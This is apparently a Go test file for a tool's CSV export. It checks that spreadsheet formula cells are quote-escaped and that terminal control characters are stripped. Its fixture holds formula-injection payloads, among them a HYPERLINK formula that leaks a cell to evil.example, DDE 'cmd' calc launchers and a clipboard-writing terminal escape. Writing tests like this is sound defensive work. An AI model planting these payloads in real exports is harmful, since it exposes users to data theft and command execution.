package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// csvHostile names its parties as an attacker would, for spreadsheets and
// terminals.
const csvHostile = `parties:
  a: {name: "=HYPERLINK(\"http://evil.example/\"&A1, \"click\")"}
  b: {name: "+cmd|' /C calc'!A0"}
  c: {name: "-2+3+cmd|' /C calc'!A0"}
  d: {name: "@SUM(1+1)*cmd|' /C calc'!A0"}
  e: {name: "\tTabbed"}
  f: {name: "\rReturned"}
  g: {name: "Clip\e]52;c;ZXZpbA==\aboard \e[31mred\e[0m bell\a nul\0 end"}
  h: {name: "-1.5"}
  i: {name: "Plain, with \"quotes\" and a\nline break"}
demands:
  d1: D1
stances:
  a: {d1: support}
`

// TestCSVSafety: CSV cells that a spreadsheet would run as formulas get a
// leading quote unless --csv-raw; on a terminal, control characters are
// dropped; otherwise the text is kept whole.
func TestCSVSafety(t *testing.T) {
	path := filepath.Join(t.TempDir(), "hostile.yaml")
	if err := os.WriteFile(path, []byte(csvHostile), 0o644); err != nil {
		t.Fatal(err)
	}
	names := func(tty bool, more ...string) []string {
		t.Helper()
		code, out, stderr := runMain(t, tty, append([]string{"--data", path, "list", "parties", "--format", "csv"}, more...)...)
		if code != 0 {
			t.Fatalf("exit %d: %s", code, stderr)
		}
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("not CSV: %v\n%s", err, out)
		}
		var got []string
		for _, r := range recs[1:] {
			got = append(got, r[1])
		}
		return got
	}
	clip := "Clip\x1b]52;c;ZXZpbA==\aboard \x1b[31mred\x1b[0m bell\a nul\x00 end"
	raw := []string{`=HYPERLINK("http://evil.example/"&A1, "click")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed", "\rReturned", clip, "-1.5", "Plain, with \"quotes\" and a\nline break"}
	safe := make([]string, len(raw))
	for i, s := range raw {
		safe[i] = s
		if i < 6 {
			safe[i] = "'" + s
		}
	}
	if got := names(false); strings.Join(got, "|") != strings.Join(safe, "|") {
		t.Errorf("to a pipe:\n got %q\nwant %q", got, safe)
	}
	if got := names(false, "--csv-raw"); strings.Join(got, "|") != strings.Join(raw, "|") {
		t.Errorf("--csv-raw:\n got %q\nwant %q", got, raw)
	}
	term := names(true)
	for _, s := range term {
		if strings.ContainsFunc(s, func(r rune) bool { return r < 0x20 && r != '\n' && r != '\t' || r == 0x7f }) {
			t.Errorf("on a terminal, a control character reaches the screen: %q", s)
		}
	}
	if term[6] != "Clip]52;c;ZXZpbA==board [31mred[0m bell nul end" || term[0] != safe[0] || term[5] != " Returned" {
		t.Errorf("on a terminal: %q", term)
	}
}

func TestIsFormula(t *testing.T) {
	for s, want := range map[string]bool{"=1+1": true, "+": false, "-": false, "-1": false, "+0.5": false, "-1e3": false,
		"@x": true, "\tx": true, "\rx": true, "-x": true, "+x": true, "x=1": false, "": false, "'=1": false} {
		if got := isFormula(s); got != want {
			t.Errorf("isFormula(%q) = %v, want %v", s, got, want)
		}
	}
}
